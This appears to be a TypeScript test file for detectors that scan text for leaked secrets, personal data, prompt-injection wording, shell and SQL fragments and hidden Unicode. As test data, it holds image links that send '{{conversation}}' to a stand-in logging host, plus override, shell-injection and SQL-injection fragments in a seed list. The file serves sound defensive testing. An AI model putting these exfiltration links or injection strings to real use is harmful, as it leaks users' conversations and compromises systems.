import { readdirSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { assignments } from '../../../src/inspect/detectors/assignments.ts';
import { concealment } from '../../../src/inspect/detectors/concealment.ts';
import { contactData } from '../../../src/inspect/detectors/contact-data.ts';
import type { Detector } from '../../../src/inspect/detectors/detector.ts';
import { errands } from '../../../src/inspect/detectors/errands.ts';
import { identityNumbers } from '../../../src/inspect/detectors/identity-numbers.ts';
import { instructionText } from '../../../src/inspect/detectors/instructions.ts';
import { jwt } from '../../../src/inspect/detectors/jwt.ts';
import { linksToFill } from '../../../src/inspect/detectors/links-to-fill.ts';
import { override } from '../../../src/inspect/detectors/override.ts';
import { preference } from '../../../src/inspect/detectors/preference.ts';
import { pretence } from '../../../src/inspect/detectors/pretence.ts';
import { privateKeys } from '../../../src/inspect/detectors/private-keys.ts';
import { secrecy } from '../../../src/inspect/detectors/secrecy.ts';
import { shellFragments } from '../../../src/inspect/detectors/shell-fragments.ts';
import { sqlFragments } from '../../../src/inspect/detectors/sql-fragments.ts';
import { tokens } from '../../../src/inspect/detectors/tokens.ts';
import { hiddenText } from '../../../src/inspect/detectors/unicode.ts';
import { urlPasswords } from '../../../src/inspect/detectors/url-passwords.ts';
import { finish, PIECE, type Steps } from '../../../src/model/steps.ts';
import { expectLinear } from '../../growth.ts';
import { without } from '../given.ts';

const all: readonly Detector[] = [
  assignments,
  contactData,
  identityNumbers,
  instructionText,
  jwt,
  linksToFill,
  privateKeys,
  shellFragments,
  sqlFragments,
  tokens,
  hiddenText,
  urlPasswords,
  concealment,
  errands,
  override,
  preference,
  pretence,
  secrecy,
];

test('every detector file is tested here', () => {
  const parts = ['detector.ts', 'entropy.ts', 'number-runs.ts'];
  const files = readdirSync('src/inspect/detectors').filter((file) => file.endsWith('.ts') && !parts.includes(file));
  expect(files).toHaveLength(all.length);
});

const needing = all.flatMap((detector) => {
  const { needs } = detector;
  return needs === undefined ? [] : [[detector.name, detector, needs] as const];
});

test.each(needing)('%s sees nothing in a text without what it needs', (_name, { find }, needs) => {
  const examples = all.flatMap(({ sees, ignores }) => [...sees.map(({ text }) => text), ...ignores]);
  const piece = fc.oneof(fc.constantFrom(...examples), fc.string({ unit: 'binary-ascii' }));
  const poor = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => without(pieces.join(' '), needs));
  fc.assert(
    fc.property(poor, (text) => {
      expect(find(text)).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});

const inSteps = all.flatMap((detector) => {
  const { findInSteps } = detector;
  return findInSteps === undefined ? [] : [[detector.name, detector, findInSteps] as const];
});

test.each(inSteps)(
  '%s sees the same in steps, whoever else looks at texts meanwhile',
  (_name, detector, findInSteps) => {
    const piece = fc.constantFrom(
      ...all.flatMap(({ sees, ignores }) => [...sees.map(({ text }) => text), ...ignores]),
      'a\u200bb',
    );
    const text = fc.array(fc.tuple(piece, fc.constantFrom(1, 2, 200)), { maxLength: 12 });
    fc.assert(
      fc.property(text, text, (pieces, others) => {
        const join = (list: typeof pieces): string => list.map(([one, times]) => `${one} `.repeat(times)).join('\n');
        const [one, other] = [findInSteps(join(pieces)), findInSteps(join(others))];
        const results: unknown[] = [];
        for (let isOver = false; !isOver; ) {
          isOver = true;
          for (const [index, steps] of [one, other].entries()) {
            const { done, value } = steps.next();
            if (done === true) results[index] ??= value;
            else isOver = false;
          }
        }
        expect(results).toEqual([detector.find(join(pieces)), detector.find(join(others))]);
      }),
      { numRuns: 60 },
    );
  },
);

test('links are found behind others, and pictures with as much before their address as one may have', () => {
  const far = `![${'x'.repeat(200)}](   https://log.example/p.png?d={{conversation}})`;
  const html = `<img ${'x'.repeat(198)} src   =   "   https://log.example/p.png?d={{conversation}}">`;
  const text = `ftp://a.example http://"b ${far} https://shop.example/c?d=1 ${html} ${far}`;
  expect(linksToFill.find(text).map(({ start }) => start)).toEqual([
    text.indexOf(far),
    text.indexOf(html),
    text.lastIndexOf(far),
  ]);
});

describe.each(all.map((detector) => [detector.name, detector] as const))('%s', (_name, detector) => {
  test.each(detector.sees.map((example) => [example.text.slice(0, 60), example] as const))(
    'sees %s',
    (_text, example) => {
      expect(detector.find(example.text).map((spotted) => spotted.kind)).toContain(example.kind);
    },
  );

  test.each(detector.ignores.map((text) => [text.slice(0, 60), text] as const))('ignores %s', (_text, text) => {
    expect(detector.find(text)).toEqual([]);
  });

  test('names only kinds that it declares, each with an example', () => {
    expect([...new Set(detector.sees.map((example) => example.kind))].sort()).toEqual([...detector.kinds].sort());
  });

  test('places what it sees inside the text, in order, and sees it again wherever the text stands', () => {
    const sample = fc.constantFrom(...detector.sees.map((example) => example.text));
    fc.assert(
      fc.property(fc.array(fc.oneof(sample, fc.string(), fc.lorem()), { maxLength: 5 }), (parts) => {
        const text = parts.join(' \n ');
        let before = 0;
        for (const spotted of detector.find(text)) {
          expect(spotted.start).toBeGreaterThanOrEqual(before);
          expect(spotted.end).toBeGreaterThan(spotted.start);
          expect(spotted.end).toBeLessThanOrEqual(text.length);
          before = spotted.start;
        }
        if (parts.some((part) => detector.sees.some((example) => example.text === part))) {
          expect(detector.find(text).length).toBeGreaterThan(0);
        }
      }),
    );
  });

  test('never says in words what it saw', () => {
    for (const { text } of detector.sees) {
      for (const { message, start, end } of detector.find(text)) expect(message).not.toContain(text.slice(start, end));
    }
  });

  test('does linear work on hostile text', () => {
    const seeds = [
      'a',
      ' ',
      '-',
      '=',
      'eyJ',
      'eyJa.',
      '://a:',
      'sk-',
      'AKIA',
      '-----BEGIN PRIVATE KEY-----',
      'password: ',
      'token"token=',
      'ignore all the ',
      'do not tell the ',
      '\u200b',
      'a\u200b',
      '\u{e0041}',
      'A1b2C3d4',
      'x:/',
      '<',
      'secret=\\"',
      'before you use ',
      'a@',
      'a.a-',
      '4 ',
      '41-',
      'GB82',
      'phone ',
      '1.',
      'a:',
      '+1(2',
      'ssn 5 3 ',
      '\u001b[38;5;',
      'p\u0430',
      '\uff50\uff41 ',
      'A'.repeat(21),
      "x' or ",
      'or 1=',
      '; ls ',
      '| cat ',
      '$(`',
      "x' or 'a'='",
      'sleep(5',
      'forward all ',
      ...detector.sees.map((example) => `${example.text.slice(0, -3)} `),
    ];
    expectLinear(seeds, (text) => detector.find(text), { size: 25_000 });
  });
});

test('what stands behind a header is read once, not again for each header before it', () => {
  const headers = ['-----BEGIN PRIVATE KEY-----', '-----BEGIN RSA PRIVATE KEY-----\n', 'PuTTY-User-Key-File-2 '];
  // Less than a key may be long: from there on the work for each header would grow no more.
  expectLinear(headers, (text) => privateKeys.find(text), { size: 4_000 });
  const ends = (text: string): string => `${text}-----END PRIVATE KEY-----${'A'.repeat(16)}`;
  expectLinear(headers, (text) => privateKeys.find(ends(text)), { size: 4_000 });
});

const LONG = PIECE * 24;
const written = (piece: string): string => piece.repeat(Math.ceil(LONG / piece.length)).slice(0, LONG);

/** What is looked at with pauses although all of it is one run, one number or one word that is cut up, and the least of them. */
test.each<[string, Detector, string, number]>([
  ['one run of letters', tokens, written('a.'), 8],
  ['one run in which forms seem to begin', tokens, written('eyJhbGciOiJI.'), 8],
  ['beginnings of claims', jwt, written('.eyJ'), 2],
  ['dots', jwt, written('a.'), 3],
  ['addresses', linksToFill, written('see https://a.example/b now '), 20],
  ['colons', urlPasswords, written('a:'), 3],
  ['one number', identityNumbers, written('1'), 8],
  ['one number of a person', contactData, written('1'), 8],
  ['letters that look alike', hiddenText, written('p\u0430'), 5],
  ['a word that is cut up', hiddenText, written('a\u200b'), 100],
  ['letters of Chinese', hiddenText, written('会议记录'), 4],
])('%s are read with pauses', (_what, { find, findInSteps }, text, least) => {
  const steps = (findInSteps as (text: string) => Steps<unknown>)(text);
  let pauses = 0;
  for (let step = steps.next(); step.done !== true; step = steps.next()) pauses++;
  expect(pauses).toBeGreaterThanOrEqual(least);
  expect(finish((findInSteps as (text: string) => Steps<unknown>)(text))).toEqual(find(text));
});

test.each([tokens, jwt, urlPasswords, linksToFill, identityNumbers, contactData, hiddenText])(
  '$name sees the same with pauses, wherever a long text is cut',
  ({ sees, find, findInSteps }) => {
    const around = fc.constantFrom(' ', 'a', 'a.', 'p\u0430', 'a\u200b', '/a', '会', '4 1-');
    const inside = fc.array(fc.constantFrom(...sees.map(({ text }) => text), ' ', '.'), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(around, inside, fc.nat({ max: 40 }), fc.constantFrom(4, 8, 16), (fill, given, shift, at) => {
        const cut = PIECE * at - shift;
        const text = `${fill.repeat(cut).slice(0, cut)}${given.join('')}${fill.repeat(LONG).slice(0, LONG - cut)}`;
        expect(finish((findInSteps as (text: string) => Steps<unknown>)(text))).toEqual(find(text));
      }),
      { numRuns: 12 },
    );
  },
  60_000,
);
